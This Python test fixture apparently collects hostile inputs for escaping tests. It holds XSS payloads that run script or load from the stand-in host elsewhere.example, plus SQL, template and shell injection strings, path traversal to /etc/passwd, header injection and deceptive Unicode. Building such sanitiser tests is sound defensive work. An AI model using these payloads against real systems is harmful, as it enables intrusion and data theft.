"""Texts that are something else to whoever does not take them for texts: HTML, markdown, SQL.

In each of them ``MARK`` stands for a word of its own. Where the text is shown as a text the word
can be read; where it is taken for markup it sets ``window.__hit``, or asks another host.
"""

from __future__ import annotations

import base64
from typing import Final

from tests.hostile import BIDI, CONTROL, ESCAPES, INJECTION, LONE

_DO: Final = "window.__hit='MARK'"
_SCRIPT: Final = f"<script>{_DO}</script>"
_URL: Final = "http://elsewhere.example/MARK"
_DATA: Final = base64.b64encode(b"<script>parent.__hit=1</script>").decode()

_TEXTS: Final = {
    # --- HTML
    "script": _SCRIPT,
    "script of others": f"<script src='{_URL}.js'></script>",
    "image": f"<img src=x onerror=\"{_DO}\">",
    "image of others": f"<img src={_URL}.png>",
    "svg": f"<svg onload=\"{_DO}\"><script>{_DO}</script><a xlink:href='javascript:{_DO}'/></svg>",
    "math": f"<math><maction xlink:href=javascript:{_DO}>MARK</maction></math>",
    "out of double quotes": f'MARK" autofocus onfocus="{_DO}" x="',
    "out of single quotes": f'MARK\' autofocus onfocus="{_DO}" x=\'',
    "out of no quotes": f"MARK autofocus onfocus={_DO} x=",
    "out of backticks": f"MARK` onload={_DO} `",
    "out of a title": f"</title></textarea></style></script></template>{_SCRIPT}",
    "out of a comment": f"MARK--></!--><!-- >{_SCRIPT}<!--",
    "out of CDATA": f"MARK]]>{_SCRIPT}<![CDATA[",
    "out of JSON in a script": f'MARK"}};{_DO};//</script>{_SCRIPT}',
    "frame": f"<iframe srcdoc=\"<script>parent.{_DO[7:]}</script>\"></iframe>",
    "frame by a URL": f"<iframe src=\"javascript:parent.{_DO[7:]}\"></iframe>",
    "object": f"<object data='data:text/html;base64,{_DATA}'>MARK</object><embed src={_URL}>",
    "details": f"<details open ontoggle=\"{_DO}\">MARK</details>",
    "form": f"<form action='{_URL}'><button formaction=\"javascript:{_DO}\">MARK</button>",
    "input": f"<input autofocus onfocus=\"{_DO}\" value=MARK>",
    "media": f"<video src=x onerror=\"{_DO}\"></video><audio src=x onerror=\"{_DO}\"></audio>",
    "style": f"<style>@import '{_URL}.css'; * {{ display: none }}</style>",
    "style of an element": f"<p style='background: url({_URL}.png); position: fixed'>MARK</p>",
    "base and refresh": f"<base href='{_URL}/'><meta http-equiv=refresh content='0;{_URL}'>",
    "preload": f"<link rel=preconnect href='{_URL}'><link rel=stylesheet href='{_URL}'>",
    "htmx": f"<div hx-get='{_URL}' hx-trigger=load hx-on:htmx:load=\"{_DO}\">MARK</div>",
    "data-htmx": f"<i data-hx-post='/sql' data-hx-trigger=load data-hx-vals='js:{_DO}'>MARK</i>",
    "mutation": f"<svg></p><style><a id=\"</style><img src=1 onerror={_DO}>\">MARK",
    "cut in two": f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    "null within": f"<scr\x00ipt>{_DO}</scr\x00ipt>",
    "upper case": f"<ScRiPt\n/x>{_DO}</sCrIpT >",
    "unfinished": f"<img src=x onerror={_DO} MARK",
    "full width": f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
    "UTF-7": f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-",
    "entities": f"&lt;script&gt;{_DO}&lt;/script&gt; &#60;b&#62; &amp;amp; &MARK;",
    "entities of entities": f"&amp;lt;img src=x onerror={_DO}&amp;gt;",
    "clobbering": "<form id=__hit><input name=attributes><a id=htmx href=MARK></a></form>",
    # --- URLs, and markdown
    "javascript": f"javascript:{_DO}",
    "link": f"[MARK](javascript:{_DO})",
    "link, spelt oddly": f"[MARK](\x01JaVa\tScRiPt&colon;{_DO}) [MARK](&#106;avascript:{_DO})",
    "link with angles": f"[MARK](<javascript:{_DO}>) <javascript:{_DO}>",
    "link to data": f"[MARK](data:text/html;base64,{_DATA})",
    "link to others": "[MARK](//elsewhere.example/MARK) [MARK](vbscript:x) [MARK](file:///etc/passwd)",
    "link with a title": f"[MARK]({_URL} '\" onmouseover=\"{_DO}')",
    "link within a link": f"[a [MARK](javascript:{_DO}) b](javascript:{_DO})",
    "markdown image": f"![MARK]({_URL}.png)",
    "markdown image by reference": f"![MARK][r]\n\n[r]: {_URL}.png",
    "markdown image of data": f"![MARK](data:image/svg+xml;base64,{_DATA})",
    "markdown image that breaks out": f"![MARK]({_URL}\"onerror=\"{_DO})",
    "markdown code": f"```html\n{_SCRIPT}\n```\n\n`{_SCRIPT}`",
    "markdown code's language": f"```\"><img/src=x/onerror={_DO}>\nMARK\n```",
    "markdown table": f"| MARK |\n|---|\n| {_SCRIPT} |\n| [x](javascript:{_DO}) |",
    "markdown without end": "MARK " + "[" * 2000 + "*" * 2000 + "`" * 2001 + ">" * 500,
    # --- templates, SQL, names of files, headers
    "template": "{{7*7}} {% for x in ().__class__.__mro__ %}MARK{% endfor %} {# #}",
    "other templates": "MARK ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('__hit=1')()}} %s",
    "SQL": f"MARK {INJECTION}",
    "SQL that asks": "MARK' UNION SELECT name, sql FROM sqlite_master -- \\",
    "words of a search": 'MARK" OR NEAR( * ^ a:b -c AND',
    "path": "../../../../etc/passwd/MARK",
    "path of Windows": "..\\..\\MARK\\..\\C:\\boot.ini",
    "escapes of a URL": "%2e%2e%2f%00%0d%0aMARK?a=b&c=d#e;f=%zz+g",
    "dots": "..;/MARK/./..//",
    "header": "MARK\r\nSet-Cookie: a=b\r\n\r\n<script>window.__hit=1</script>",
    "prototype": '{"__proto__": {"__hit": "MARK"}, "constructor": {"prototype": {"__hit": 1}}}',
    "spreadsheet": "=HYPERLINK(\"http://elsewhere.example/MARK\")",
    "shell": "MARK'; touch /tmp/hit; `touch /tmp/hit` $(touch /tmp/hit) #",
    # --- characters
    "control characters": f"MARK {CONTROL} MARK",
    "escapes of a terminal": f"MARK {ESCAPES} MARK",
    "right to left": f"MARK {BIDI} \u202egnp.KRAM\u202c \u2067MARK\u2069 \u200f",
    "half a pair": f"MARK {LONE} \udc00",
    "nothing to see": "MARK\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164",
    "many marks": "MARK" + "\u0301\u0489" * 400,
    "wide": "MARK\ufdfd\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
}  # fmt: skip


def mark(name: str) -> str:
    """The word of a text."""
    return f"mark{list(_TEXTS).index(name):03}"


PIECES: Final = {mark(name): text.replace("MARK", mark(name)) for name, text in _TEXTS.items()}
"""The texts, by their words."""
